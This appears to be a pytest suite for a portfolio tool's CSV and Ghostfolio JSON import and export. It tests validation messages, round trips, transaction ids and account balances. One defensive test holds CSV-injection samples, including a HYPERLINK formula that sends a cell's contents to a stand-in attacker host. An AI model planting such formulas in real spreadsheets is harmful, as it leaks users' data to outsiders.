"""Import and export formats (alex.portfolio.formats): Alex's CSVs, Ghostfolio's JSON, ids.

The Ghostfolio fixture follows Ghostfolio's own export and test files at commit
c542997d27990365b607c7a6c9fe4bc8835a55c8 (tests/fixtures/portfolio/README.md says which)."""

from __future__ import annotations

import dataclasses
import json
from collections import Counter
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alex.domain.errors import InvalidInputError
from alex.portfolio.formats import alex_csv, csv_table, reference_csv
from alex.portfolio.formats.fields import MAX_DECIMALS
from alex.portfolio.formats.ghostfolio import (
    Balance,
    balance_adjustment,
    dump_ghostfolio,
    parse_ghostfolio,
)
from alex.portfolio.formats.ids import transaction_ids
from alex.portfolio.formats.problems import MAX_PROBLEMS, FormatError
from alex.portfolio.holdings import ledger
from alex.portfolio.model import (
    Account,
    AccountKind,
    Instrument,
    InstrumentType,
    Transaction,
    TransactionType,
)

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples" / "portfolio"
GHOSTFOLIO = ROOT / "tests" / "fixtures" / "portfolio" / "ghostfolio-household.json"
TODAY = date(2026, 12, 3)
HEADER = "date,account,type,symbol,quantity,unit_price,fee,currency,note\n"
GOOD = "2024-03-01,brokerage,BUY,VTI,10,245.10,1.00,USD,first buy\n"


def csv_of(*lines: str) -> str:
    return HEADER + "".join(line if line.endswith("\n") else line + "\n" for line in lines)


def fault(text: str, **kwargs: object) -> FormatError:
    with pytest.raises(FormatError) as caught:
        alex_csv.parse_transactions(text, today=TODAY, **kwargs)  # type: ignore[arg-type]
    return caught.value


# --- Alex's transactions CSV ------------------------------------------------------------


def test_a_good_file_gives_its_transactions_with_exact_decimals() -> None:
    found = alex_csv.parse_transactions(
        csv_of(GOOD, '2024-03-02,savings,deposit,,,500,,usd,"pay, March"'), today=TODAY
    )
    assert found[0] == Transaction(
        date(2024, 3, 1), "brokerage", TransactionType.BUY, "VTI",
        Decimal("10"), Decimal("245.10"), Decimal("1.00"), "USD", "first buy",
    )  # fmt: skip
    deposit = found[1]
    # A cash move's blank quantity is one unit; a blank fee is 0; case is normalised.
    assert (deposit.type, deposit.symbol, deposit.quantity, deposit.fee, deposit.currency) == (
        TransactionType.DEPOSIT, None, Decimal(1), Decimal(0), "USD",
    )  # fmt: skip
    assert deposit.amount == Decimal("500") and deposit.note == "pay, March"


def test_export_then_import_gives_the_same_transactions() -> None:
    text = (SAMPLES / "transactions.csv").read_text("utf-8")
    first = alex_csv.parse_transactions(text, today=TODAY)
    again = alex_csv.parse_transactions(alex_csv.dump_transactions(first), today=TODAY)
    assert again == first


@pytest.mark.parametrize(
    ("line", "column", "words"),
    [
        ("2024-03-01,brokerage,BUY,VTI,-10,245.10,0,USD,", "quantity", "negative"),
        ("2024-03-01,brokerage,BUY,VTI,10,-1,0,USD,", "unit_price", "negative"),
        ("2024-03-01,brokerage,BUY,VTI,10,5,-0.5,USD,", "fee", "negative"),
        ("2024-03-01,brokerage,BUY,VTI,0,245.10,0,USD,", "quantity", "more than 0"),
        ("2024-03-01,brokerage,BUY,VTI,1e3,245.10,0,USD,", "quantity", "exponent"),
        ('2024-03-01,brokerage,BUY,VTI,10,"1,245.10",0,USD,', "unit_price", "separators"),
        ("2024-03-01,brokerage,BUY,VTI,10,NaN,0,USD,", "unit_price", "not a number"),
        ("2024-03-01,brokerage,BUY,VTI,10,0.12345678901,0,USD,", "unit_price", "digits"),
        ("2024-03-01,brokerage,BUY,VTI,1234567890123456,1,0,USD,", "quantity", "digits"),
        ("2024-03-01,brokerage,BUY,VTI,10, ,0,USD,", "unit_price", "empty"),
        ("2027-01-01,brokerage,BUY,VTI,10,245.10,0,USD,", "date", "future"),
        ("03/01/2024,brokerage,BUY,VTI,10,245.10,0,USD,", "date", "YYYY-MM-DD"),
        ("20240301,brokerage,BUY,VTI,10,245.10,0,USD,", "date", "YYYY-MM-DD"),
        ("2024-02-30,brokerage,BUY,VTI,10,245.10,0,USD,", "date", "no such date"),
        ("1899-12-31,brokerage,BUY,VTI,10,245.10,0,USD,", "date", "before 1900"),
        ("2024-03-01,brokerage,SWAP,VTI,10,245.10,0,USD,", "type", "unknown type 'SWAP'"),
        ("2024-03-01,brokerage,BUY,,10,245.10,0,USD,", "symbol", "needs the instrument"),
        ("2024-03-01,brokerage,DEPOSIT,VTI,1,500,0,USD,", "symbol", "leave the symbol empty"),
        ("2024-03-01,brokerage,BUY,V T I,10,245.10,0,USD,", "symbol", "ticker"),
        ("2024-03-01,brokerage,BUY,VTI,10,245.10,0,US,", "currency", "three-letter"),
        ("2024-03-01,broker age,BUY,VTI,10,245.10,0,USD,", "account", "account id"),
        ("2024-03-01,brokerage,BUY,VTI,10,245.10,0,USD,bad\x00note", "note", "control"),
    ],
)
def test_a_bad_value_names_its_row_and_column(line: str, column: str, words: str) -> None:
    error = fault(csv_of(GOOD, GOOD, line))
    assert len(error.problems) == 1
    problem = error.problems[0]
    assert (problem.where, problem.field) == ("row 4", column)  # header row 1, two good rows
    assert words in problem.message
    assert isinstance(error, InvalidInputError) and f"row 4, {column}: " in error.message


def test_one_bad_row_yields_nothing_and_every_bad_row_is_named() -> None:
    bad = "2024-03-01,brokerage,BUY,VTI,-1,245.10,0,USD,"
    error = fault(csv_of(GOOD, bad, GOOD, "2030-01-01,brokerage,BUY,VTI,1,1,0,USD,"))
    assert [(p.where, p.field) for p in error.problems] == [
        ("row 3", "quantity"),
        ("row 5", "date"),
    ]
    assert "nothing imported" in error.message


def test_faults_are_capped_and_the_rest_counted() -> None:
    bad = "2024-03-01,brokerage,BUY,VTI,-1,245.10,0,USD,"
    error = fault(csv_of(*[bad] * (MAX_PROBLEMS + 7)))
    assert len(error.problems) == MAX_PROBLEMS and error.more == 7
    assert error.problems[-1].where == f"row {MAX_PROBLEMS + 1}"


def test_an_unknown_account_is_named_when_the_accounts_are_given() -> None:
    text = csv_of(GOOD, "2024-03-01,brokrage,BUY,VTI,1,1,0,USD,")
    error = fault(text, accounts={"brokerage", "ira"})
    assert (error.problems[0].where, error.problems[0].field) == ("row 3", "account")
    assert "'brokrage'" in error.message and "brokerage, ira" in error.message
    assert len(alex_csv.parse_transactions(csv_of(GOOD), today=TODAY, accounts={"brokerage"}))


@pytest.mark.parametrize(
    ("text", "where", "words"),
    [
        ("", "row 1", "empty file"),
        ("date,account,type,symbol,qty,unit_price,fee,currency,note\n" + GOOD, "row 1", "header"),
        (csv_of("2024-03-01,brokerage,BUY,VTI,10,245.10"), "row 2", "6 fields, expected 9"),
        (csv_of(GOOD, '2024-03-01,brokerage,BUY,VTI,10,245.10,0,USD,"open quote'), "row 3",
         "malformed CSV"),
        (csv_of('2024-03-01,brokerage,BUY,VTI,10,245.10,0,USD,"a"b'), "row 2", "malformed CSV"),
    ],
)  # fmt: skip
def test_a_malformed_file_is_refused_with_the_row(text: str, where: str, words: str) -> None:
    error = fault(text)
    assert error.problems[0].where == where and words in error.problems[0].message


def test_rows_are_counted_as_a_spreadsheet_shows_them() -> None:
    """A byte-order mark, CRLF ends, a blank line and a note over two lines are all fine;
    the row named after them is the spreadsheet's."""
    text = (
        "\ufeff"
        + HEADER.replace("\n", "\r\n")
        + GOOD
        + "\r\n"
        + (
            '2024-03-01,brokerage,BUY,VTI,1,1,0,USD,"two\nlines \u2028 here"\n'
            "2024-03-01,brokerage,BUY,VTI,-1,1,0,USD,\n"
        )
    )
    assert fault(text).problems[0].where == "row 5"
    ok = text.replace("VTI,-1", "VTI,1")
    assert alex_csv.parse_transactions(ok, today=TODAY)[1].note == "two\nlines \u2028 here"


def test_a_hundred_thousand_rows_parse() -> None:
    """The issue's large-file case; its speed is printed by bench/, not asserted here."""
    line = "2024-03-01,brokerage,BUY,VTI,1.5,245.10,0,USD,monthly\n"
    found = alex_csv.parse_transactions(HEADER + line * 100_000, today=TODAY)
    assert len(found) == 100_000 and found[-1].quantity == Decimal("1.5")
    error = fault(HEADER + line * 99_999 + line.replace("1.5", "-1.5"))
    assert error.problems[0].where == "row 100001"


# --- prices and the reference CSVs -------------------------------------------------------


# Spreadsheet formulas (OWASP, "CSV Injection") -------------------------------------------------
def test_user_text_that_a_spreadsheet_would_run_is_guarded_and_reads_back_the_same() -> None:
    link = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
    notes = [link, "-5 fee refund", "+1 bonus", "@SUM(A1:A2)", "\tx", "'=already quoted", "ok"]
    transactions = [
        Transaction(TODAY, "brokerage", TransactionType.FEE, None, Decimal(1), Decimal(5),
                    Decimal(0), "USD", note)
        for note in notes
    ]  # fmt: skip
    text = alex_csv.dump_transactions(transactions)
    cells = [line.rsplit(",", 1)[-1] for line in text.splitlines()[1:] if "USD" in line]
    # Each cell as written: a leading apostrophe before a formula character, and one more
    # before apostrophes that precede one (so that reading removes exactly what was added).
    assert text.count("'=HYPERLINK") == 1 and "'-5 fee refund" in text and "'+1 bonus" in text
    assert "'@SUM" in text and "''=already quoted" in text and cells[-1] == "ok"
    # Numbers are never touched: the amounts and fees stay numbers.
    assert all(",FEE,,1,5,0,USD," in line for line in text.splitlines()[1:8])
    assert alex_csv.parse_transactions(text, today=TODAY) == transactions

    accounts = [Account("isa", "=1+1", AccountKind.TAXABLE, "GBP")]
    instruments = [Instrument("X", "-X fund", InstrumentType.FUND, "GBP")]
    account_text = reference_csv.dump_accounts(accounts)
    instrument_text = reference_csv.dump_instruments(instruments)
    assert "'=1+1" in account_text and "'-X fund" in instrument_text
    assert reference_csv.parse_accounts(account_text) == accounts
    assert reference_csv.parse_instruments(instrument_text) == instruments


def test_a_hand_written_apostrophe_is_kept_unless_it_guards_a_formula() -> None:
    text = csv_of("2024-03-01,brokerage,BUY,VTI,10,245.10,1.00,USD,'tis mine",
                  "2024-03-02,brokerage,BUY,VTI,10,245.10,1.00,USD,'=1+1")  # fmt: skip
    notes = [t.note for t in alex_csv.parse_transactions(text, today=TODAY)]
    assert notes == ["'tis mine", "=1+1"]


@given(st.text(max_size=30))
def test_the_guard_is_undone_exactly(text: str) -> None:
    guarded = csv_table.guard(text)
    assert csv_table.unguard(guarded) == text
    assert not guarded.startswith(csv_table.FORMULA_STARTS)


def test_prices_parse_and_a_conflicting_close_is_named() -> None:
    text = "date,symbol,close,currency\n2026-11-27,VTI,301.20,USD\n2026-11-27,VTI,301.20,USD\n"
    assert len(alex_csv.parse_prices(text, today=TODAY)) == 1  # a repeated line is one price
    conflict = text + "2026-11-27,VTI,302.00,USD\n"
    with pytest.raises(FormatError) as caught:
        alex_csv.parse_prices(conflict, today=TODAY)
    assert caught.value.problems[0].where == "row 4" and "(row 2)" in caught.value.message
    with pytest.raises(FormatError, match="row 2, close: must be more than 0"):
        alex_csv.parse_prices("date,symbol,close,currency\n2026-11-27,VTI,0,USD\n", today=TODAY)


def test_instrument_weights_must_sum_to_100_or_be_unknown() -> None:
    header = "symbol,name,type,currency,asset_class,region,sector\n"
    ok = reference_csv.parse_instruments(
        header + "VTI,Total market,etf,USD,equity:100,us:60;europe:40,unknown\n"
    )[0]
    assert ok.region.shares == {"us": Decimal(60), "europe": Decimal(40)}
    assert not ok.sector.known
    for cell, words in [("us:60;europe:30", "sum to 90"), ("us60", "bucket:percent"),
                        ("us:50;us:50", "twice"), ("us:-5;eu:105", "negative")]:  # fmt: skip
        with pytest.raises(FormatError, match=words) as caught:
            reference_csv.parse_instruments(header + f"VTI,T,etf,USD,equity:100,{cell},\n")
        assert caught.value.problems[0].field == "region"


def test_the_reference_csvs_round_trip() -> None:
    accounts = reference_csv.parse_accounts((SAMPLES / "accounts.csv").read_text("utf-8"))
    instruments = reference_csv.parse_instruments((SAMPLES / "instruments.csv").read_text("utf-8"))
    rates = reference_csv.parse_fx((SAMPLES / "fx.csv").read_text("utf-8"), today=TODAY)
    assert reference_csv.parse_accounts(reference_csv.dump_accounts(accounts)) == accounts
    dumped = reference_csv.dump_instruments(instruments)
    assert reference_csv.parse_instruments(dumped) == instruments
    assert reference_csv.parse_fx(reference_csv.dump_fx(rates), today=TODAY) == rates
    with pytest.raises(FormatError, match="row 3, id: 'a' already defined in row 2"):
        reference_csv.parse_accounts("id,name,kind,currency\na,A,taxable,USD\na,B,savings,USD\n")
    with pytest.raises(FormatError, match="row 2, kind: unknown 'pension'"):
        reference_csv.parse_accounts("id,name,kind,currency\na,A,pension,USD\n")


# --- the sample household -----------------------------------------------------------------


def test_the_sample_household_parses_and_hangs_together() -> None:
    accounts = reference_csv.parse_accounts((SAMPLES / "accounts.csv").read_text("utf-8"))
    instruments = reference_csv.parse_instruments((SAMPLES / "instruments.csv").read_text("utf-8"))
    ids = {account.id for account in accounts}
    transactions = alex_csv.parse_transactions(
        (SAMPLES / "transactions.csv").read_text("utf-8"), today=TODAY, accounts=ids
    )
    prices = alex_csv.parse_prices((SAMPLES / "prices.csv").read_text("utf-8"), today=TODAY)
    rates = reference_csv.parse_fx((SAMPLES / "fx.csv").read_text("utf-8"), today=TODAY)
    assert 2 <= len(accounts) <= 3 and 8 <= len(instruments) <= 12
    by_symbol = {instrument.symbol: instrument for instrument in instruments}
    foreign = {i.currency for i in instruments} - {a.currency for a in accounts}
    assert foreign and foreign <= {rate.base for rate in rates}
    # Every symbol traded is an instrument, priced in its own currency, and traded in it.
    assert {t.symbol for t in transactions if t.symbol} == set(by_symbol)
    assert {p.symbol for p in prices} == set(by_symbol)
    assert all(p.currency == by_symbol[p.symbol].currency for p in prices)
    assert all(t.currency == by_symbol[t.symbol].currency for t in transactions if t.symbol)
    days = [t.date for t in transactions]
    assert (max(days) - min(days)).days >= 3 * 365 - 5
    assert set(TransactionType) == {t.type for t in transactions}
    # Never sells more than held.
    held: Counter[tuple[str, str]] = Counter()
    for t in sorted(transactions, key=lambda t: t.date):
        if t.type in (TransactionType.BUY, TransactionType.SELL) and t.symbol:
            sign = 1 if t.type is TransactionType.BUY else -1
            held[(t.account, t.symbol)] += sign * t.quantity  # type: ignore[assignment]
            assert held[(t.account, t.symbol)] >= 0, t


# --- ids ----------------------------------------------------------------------------------


def test_re_importing_adds_nothing_and_identical_rows_stay_two() -> None:
    twice = csv_of(GOOD, GOOD)
    first = transaction_ids(alex_csv.parse_transactions(twice, today=TODAY))
    assert len(set(first)) == 2  # two equal purchases on one day are two activities
    again = transaction_ids(alex_csv.parse_transactions(twice, today=TODAY))
    assert again == first
    # The same rows with a note corrected, numbers written differently, in another order:
    reordered = csv_of(
        "2024-03-02,brokerage,SELL,VTI,1,250,0,USD,",
        GOOD.replace("1.00,USD,first buy", "1,USD,first purchase").replace("245.10", "245.1"),
        GOOD,
    )
    ids = transaction_ids(alex_csv.parse_transactions(reordered, today=TODAY))
    assert set(first) <= set(ids) and len(set(ids) - set(first)) == 1


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(min_value=0, max_value=3), min_size=1, max_size=12), st.randoms())
def test_ids_do_not_depend_on_the_order_of_the_rows(picks: list[int], shuffle: object) -> None:
    lines = [GOOD.replace("10,", f"{1 + pick},") for pick in picks]
    ids = transaction_ids(alex_csv.parse_transactions(csv_of(*lines), today=TODAY))
    shuffled = list(lines)
    shuffle.shuffle(shuffled)  # type: ignore[attr-defined]
    again = transaction_ids(alex_csv.parse_transactions(csv_of(*shuffled), today=TODAY))
    assert sorted(again) == sorted(ids) and len(set(ids)) == len(ids)


# --- Ghostfolio ---------------------------------------------------------------------------


def ghostfolio_text(activities: list[dict[str, object]], **extra: object) -> str:
    return json.dumps({"activities": activities, **extra})


def activity(**changes: object) -> dict[str, object]:
    base: dict[str, object] = {
        "accountId": "acc", "comment": None, "currency": "USD", "dataSource": "YAHOO",
        "date": "2024-01-05T00:00:00.000Z", "fee": 0, "quantity": 3, "symbol": "VTI",
        "type": "BUY", "unitPrice": 240.5,
    }  # fmt: skip
    return base | changes


def ghostfolio_fault(text: str, **kwargs: object) -> FormatError:
    with pytest.raises(FormatError) as caught:
        parse_ghostfolio(text, today=TODAY, **kwargs)  # type: ignore[arg-type]
    return caught.value


def test_the_ghostfolio_fixture_maps_field_for_field() -> None:
    found = parse_ghostfolio(GHOSTFOLIO.read_text("utf-8"), today=TODAY)
    assert [(a.name, a.currency, a.kind) for a in found.accounts] == [
        ("Online brokerage", "USD", AccountKind.TAXABLE),
        ("Stocks and shares ISA", "GBP", AccountKind.TAXABLE),
    ]
    t = found.transactions
    broker = "8c0d1b7e-5a3f-4f7e-9b8e-2f4a6c1d9e01"
    # Ghostfolio's FEE carries the amount in fee; Alex's in the unit price of one unit.
    assert t[0] == Transaction(date(2023, 9, 1), broker, TransactionType.FEE, None,
                               Decimal(1), Decimal(49), Decimal(0), "USD")  # fmt: skip
    assert (t[1].unit_price, t[1].fee, t[1].note) == (Decimal("298.58"), 19, "My first order 🤓")
    assert t[3].date == date(2024, 1, 10)  # the day as written, not moved to UTC
    assert t[3] == t[4] and len(set(transaction_ids(t))) == len(t)
    assert (t[6].type, t[6].symbol, t[6].amount) == (
        TransactionType.INTEREST,
        None,
        Decimal("12.37"),
    )
    # 8715.5 pence is 87.155 pounds.
    assert (t[7].currency, t[7].unit_price, t[7].symbol) == ("GBP", Decimal("87.155"), "VWRL.L")
    assert (t[8].type, t[8].note) == (TransactionType.DIVIDEND, "")


def test_the_ghostfolio_round_trip_gives_the_same_transactions() -> None:
    """Import, export, re-import: the same accounts and transactions, so the same holdings."""
    first = parse_ghostfolio(GHOSTFOLIO.read_text("utf-8"), today=TODAY)
    exported = dump_ghostfolio(
        first.accounts, first.transactions,
        exported_at=datetime(2026, 12, 1, 8, 0, tzinfo=UTC), base_currency="USD",
    )  # fmt: skip
    again = parse_ghostfolio(exported, today=TODAY)
    assert (again.accounts, again.transactions) == (first.accounts, first.transactions)
    # Each balance written is the cash the activities give: applied back, it changes nothing.
    assert [balance_adjustment(b, again.transactions) for b in again.balances] == [None, None]
    document = json.loads(exported)
    assert document["meta"]["date"] == "2026-12-01T08:00:00.000Z"
    assert document["activities"][0] | {"symbol": "-"} == {
        "accountId": "8c0d1b7e-5a3f-4f7e-9b8e-2f4a6c1d9e01", "comment": None, "fee": 49,
        "quantity": 0, "type": "FEE", "unitPrice": 0, "currency": "USD",
        "date": "2023-09-01T00:00:00.000Z", "dataSource": "MANUAL", "symbol": "-",
    }  # fmt: skip
    profiles = {p["symbol"] for p in document["assetProfiles"]}
    assert {a["symbol"] for a in document["activities"] if a.get("dataSource")} <= profiles


def test_the_sample_household_survives_ghostfolio_and_keeps_its_ids() -> None:
    """Alex -> Ghostfolio -> Alex: the same transactions and ids, apart from the cash moves
    Ghostfolio has no activity for (refused unless left out on purpose)."""
    accounts = reference_csv.parse_accounts((SAMPLES / "accounts.csv").read_text("utf-8"))
    transactions = alex_csv.parse_transactions(
        (SAMPLES / "transactions.csv").read_text("utf-8"), today=TODAY
    )
    moment = datetime(2026, 12, 1, tzinfo=UTC)
    with pytest.raises(FormatError, match=r"transactions\[0\], type: Ghostfolio has no DEPOSIT"):
        dump_ghostfolio(accounts, transactions, exported_at=moment, base_currency="USD")
    exported = dump_ghostfolio(
        accounts, transactions, exported_at=moment, base_currency="USD", omit_cash_moves=True
    )
    back = parse_ghostfolio(exported, today=TODAY)
    kept = [t for t in transactions if t.type.value not in ("DEPOSIT", "WITHDRAWAL")]
    assert back.transactions == kept and back.accounts == accounts
    assert transaction_ids(back.transactions) == transaction_ids(kept)


@pytest.mark.parametrize(
    ("change", "field", "words"),
    [
        ({"type": "LIABILITY"}, "type", "LIABILITY (a debt) has no Alex equivalent"),
        ({"type": "ITEM"}, "type", "ITEM (a valuable"),
        ({"type": "<invalid>"}, "type", "unknown type '<invalid>'"),
        ({"quantity": -1}, "quantity", "negative"),
        ({"quantity": "3"}, "quantity", "expected a number"),
        ({"quantity": True}, "quantity", "expected a number"),
        ({"quantity": 1e300}, "quantity", "too large"),
        ({"unitPrice": None}, "unitPrice", "expected a number"),
        ({"date": "2050-06-06T00:00:00.000Z"}, "date", "future"),
        ({"date": "06/06/2024"}, "date", "ISO 8601"),
        ({"currency": "usd"}, "currency", "upper-case"),
        ({"currency": "DOLLARS"}, "currency", "three-letter"),
        ({"dataSource": "BLOOMBERG"}, "dataSource", "unknown data source"),
        ({"symbol": None}, "symbol", "not a string"),
        ({"accountId": "elsewhere"}, "accountId", "unknown account"),
        ({"accountId": None}, "accountId", "no account"),
        ({"type": "DIVIDEND", "quantity": 0}, "quantity", "more than 0"),
    ],
)
def test_a_bad_activity_is_named_by_its_index(
    change: dict[str, object], field: str, words: str
) -> None:
    text = ghostfolio_text(
        [activity(), activity(), activity(**change)],
        accounts=[{"id": "acc", "name": "A", "currency": "USD", "platformId": None}],
    )
    error = ghostfolio_fault(text, known_accounts=set())
    assert [(p.where, p.field) for p in error.problems] == [("activities[2]", field)]
    assert words in error.problems[0].message


def test_ghostfolio_file_level_faults_are_refused() -> None:
    for text, words in [
        ('{"activities": [', "malformed JSON"),
        ('{"activities": [{"quantity": NaN}]}', "NaN is not a number"),
        ("[]", "'activities' list"),
        ('{"activities": {}}', "'activities' list"),
        ('{"activities": [3]}', "expected an object"),
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ]:
        assert words in str(ghostfolio_fault(text))


def test_an_activity_without_account_goes_to_the_default_one() -> None:
    found = parse_ghostfolio(
        ghostfolio_text([activity(accountId=None)]), today=TODAY, default_account="brokerage"
    )
    assert found.transactions[0].account == "brokerage"


def test_float_artefacts_are_rounded_and_inexact_exports_refused() -> None:
    found = parse_ghostfolio(
        '{"activities": [' + json.dumps(activity())[:-1] + ', "unitPrice": 33.333333333333336}]}',
        today=TODAY,
    )
    assert found.transactions[0].unit_price == Decimal("33." + "3" * MAX_DECIMALS)
    precise = [
        Transaction(date(2024, 1, 5), "acc", TransactionType.BUY, "VTI",
                    Decimal("123456789012345.1234567891"), Decimal(1), Decimal(0), "USD")
    ]  # fmt: skip
    account = Account("acc", "A", AccountKind.TAXABLE, "USD")
    with pytest.raises(FormatError, match="more digits than Ghostfolio"):
        dump_ghostfolio([account], precise, exported_at=datetime.now(UTC), base_currency="USD")
    with pytest.raises(FormatError, match="not an exported account"):
        dump_ghostfolio([], precise, exported_at=datetime.now(UTC), base_currency="USD")


def test_an_accounts_kind_survives_ghostfolio() -> None:
    accounts = [Account("ira", "IRA", AccountKind.RETIREMENT, "USD")]
    text = dump_ghostfolio(accounts, [], exported_at=datetime.now(UTC), base_currency="USD")
    assert parse_ghostfolio(text, today=TODAY).accounts == accounts


def test_activities_refer_to_the_files_accounts_when_it_has_some() -> None:
    listed = [{"id": "acc", "name": "A", "currency": "USD", "platformId": None}]
    error = ghostfolio_fault(ghostfolio_text([activity(accountId="other")], accounts=listed))
    assert error.problems[0].field == "accountId"
    # Without accounts in the file, the ids are the caller's to check.
    alone = parse_ghostfolio(ghostfolio_text([activity(accountId="other")]), today=TODAY)
    assert alone.transactions[0].account == "other"


# Ghostfolio's account balances ---------------------------------------------------------------
def ghostfolio_with_balance(balance: object, meta: bool = True) -> str:
    """Modelled on Ghostfolio's test/import/ok/sample.json (commit c542997d): an account with
    ``balance`` 2000 and the file's FEE of 49, BUY of 5 MSFT at 298.58 (fee 19) and DIVIDEND
    of 5 x 0.62; ``balance`` is CreateAccountDto's required number (create-account.dto.ts)."""
    account = "b2d3fe1d-d6a8-41a3-be39-07ef5e9480f0"
    fee = "14a69cb9-1e31-43fa-b320-83703d8ed74b"

    def activity(kind: str, day: str, symbol: str, q: float, p: float, f: float) -> dict[str, Any]:
        return {"accountId": account, "comment": None, "fee": f, "quantity": q, "type": kind,
                "unitPrice": p, "currency": "USD", "dataSource": "YAHOO",
                "date": f"{day}T00:00:00.000Z", "symbol": symbol}  # fmt: skip

    document: dict[str, object] = {
        "accounts": [
            {
                "balance": balance,
                "balances": [],
                "comment": None,
                "currency": "USD",
                "id": account,
                "name": "My Online Trading Account",
                "platformId": None,
            }
        ],
        "activities": [
            {**activity("FEE", "2021-09-01", fee, 0, 0, 49), "dataSource": "MANUAL"},
            activity("BUY", "2021-09-16", "MSFT", 5, 298.58, 19),
            activity("DIVIDEND", "2021-11-17", "MSFT", 5, 0.62, 0),
        ],
    }
    if meta:
        document["meta"] = {"date": "2023-02-05T00:00:00.000Z", "version": "dev"}
    return json.dumps(document)


ACCOUNT = "b2d3fe1d-d6a8-41a3-be39-07ef5e9480f0"


def test_a_ghostfolio_balance_is_read_with_its_day_and_applied_by_an_adjusting_deposit() -> None:
    """The activities give -49 - (1,492.90 + 19) + 3.10 = -1,557.80 of cash; Ghostfolio says
    2,000: a DEPOSIT of 3,557.80 on the export's day makes Alex's cash 2,000. The parser only
    reads the balance (the store's cash is the caller's to add)."""
    found = parse_ghostfolio(ghostfolio_with_balance(2000), today=TODAY)
    assert len(found.transactions) == 3
    assert found.balances == [
        Balance(ACCOUNT, "USD", Decimal(2000), date(2023, 2, 5), "accounts[0], balance")
    ]
    adjustment = balance_adjustment(found.balances[0], found.transactions)
    assert adjustment is not None
    assert (adjustment.type, adjustment.date) == (TransactionType.DEPOSIT, date(2023, 2, 5))
    assert (adjustment.quantity, adjustment.unit_price, adjustment.fee) == (1, Decimal("3557.8"), 0)
    assert "Ghostfolio" in adjustment.note and adjustment.symbol is None
    cash = ledger([*found.transactions, adjustment]).cash
    assert cash == {(ACCOUNT, "USD"): Decimal("2000")}


def test_a_ghostfolio_balance_below_the_cash_is_a_withdrawal_and_equal_is_nothing() -> None:
    found = parse_ghostfolio(ghostfolio_with_balance(-2000.2), today=TODAY)
    lower = balance_adjustment(found.balances[0], found.transactions)
    assert lower is not None
    assert lower.type is TransactionType.WITHDRAWAL and lower.amount == Decimal("442.4")
    assert ledger([*found.transactions, lower]).cash[(ACCOUNT, "USD")] == Decimal("-2000.2")
    same = parse_ghostfolio(ghostfolio_with_balance(-1557.8), today=TODAY)
    assert balance_adjustment(same.balances[0], same.transactions) is None


def test_a_balance_counts_the_cash_up_to_its_day_in_its_currency_only() -> None:
    found = parse_ghostfolio(ghostfolio_with_balance(-1557.8), today=TODAY)
    (balance,) = found.balances
    later = Transaction(date(2023, 2, 6), ACCOUNT, TransactionType.DEPOSIT, None,
                        Decimal(1), Decimal(500), Decimal(0), "USD")  # fmt: skip
    euros = dataclasses.replace(later, date=date(2022, 1, 1), currency="EUR")
    elsewhere = dataclasses.replace(later, date=date(2022, 1, 1), account="other")
    assert balance_adjustment(balance, [*found.transactions, later, euros, elsewhere]) is None
    on_the_day = dataclasses.replace(later, date=balance.day)
    adjustment = balance_adjustment(balance, [*found.transactions, on_the_day])
    assert adjustment is not None and adjustment.type is TransactionType.WITHDRAWAL
    assert adjustment.amount == 500


def test_a_ghostfolio_balance_without_the_export_date_is_dated_by_the_last_activity() -> None:
    found = parse_ghostfolio(ghostfolio_with_balance(0, meta=False), today=TODAY)
    assert found.balances[0].day == date(2021, 11, 17)
    with pytest.raises(FormatError, match=r"accounts\[0\], balance"):
        parse_ghostfolio(ghostfolio_with_balance("2000"), today=TODAY)


def test_a_file_without_balances_gets_no_adjustment() -> None:
    found = parse_ghostfolio(GHOSTFOLIO.read_text("utf-8"), today=TODAY)
    assert found.balances == []
    assert not any(t.type is TransactionType.DEPOSIT for t in found.transactions)


def test_the_export_writes_each_accounts_cash_as_its_balance() -> None:
    """Ghostfolio's CreateAccountDto requires ``balance``: Alex writes the cash on the export's
    day from every transaction, the cash moves it leaves out included, and the cash held in
    other currencies on comment lines of its own, which the import reads back."""
    accounts = [Account("broker", "B", AccountKind.TAXABLE, "USD"),
                Account("empty", "E", AccountKind.SAVINGS, "EUR")]  # fmt: skip
    usd = Transaction(date(2024, 1, 2), "broker", TransactionType.DEPOSIT, None,
                      Decimal(1), Decimal("1000.25"), Decimal(0), "USD")  # fmt: skip
    buy = dataclasses.replace(usd, type=TransactionType.BUY, symbol="VTI", quantity=Decimal(2),
                              unit_price=Decimal("245.1"), fee=Decimal(1))  # fmt: skip
    eur = dataclasses.replace(usd, unit_price=Decimal(300), currency="EUR")
    keur = dataclasses.replace(buy, symbol="KEUR", unit_price=Decimal("46.74"), currency="EUR")
    late = dataclasses.replace(usd, date=date(2024, 3, 1))  # after the export's day
    text = dump_ghostfolio(
        accounts, [usd, buy, eur, keur, late], exported_at=datetime(2024, 2, 1, 23, 30,
        tzinfo=UTC), base_currency="USD", omit_cash_moves=True,
    )  # fmt: skip
    document = json.loads(text)
    broker, empty = document["accounts"]
    assert broker["balance"] == 509.05 and empty["balance"] == 0
    assert broker["comment"] == "Alex account kind: taxable\nAlex cash in EUR: 205.52"
    back = parse_ghostfolio(text, today=TODAY)
    assert [(b.account, b.currency, b.amount, b.day) for b in back.balances] == [
        ("broker", "USD", Decimal("509.05"), date(2024, 2, 1)),
        ("broker", "EUR", Decimal("205.52"), date(2024, 2, 1)),
        ("empty", "EUR", Decimal(0), date(2024, 2, 1)),
    ]
    assert back.accounts == accounts
    # The activities back and the balances give the same cash as before, on the export's day.
    adjustments = [balance_adjustment(b, back.transactions) for b in back.balances]
    again = [*back.transactions, *(a for a in adjustments if a is not None)]
    assert ledger(again).cash == ledger([usd, buy, eur, keur]).cash


def test_a_bad_cash_line_in_an_accounts_comment_is_named() -> None:
    listed = [{"id": "acc", "name": "A", "currency": "USD", "balance": 0,
               "comment": "Alex cash in EUR: lots"}]  # fmt: skip
    error = ghostfolio_fault(ghostfolio_text([], accounts=listed))
    assert [(p.where, p.field) for p in error.problems] == [("accounts[0]", "comment")]
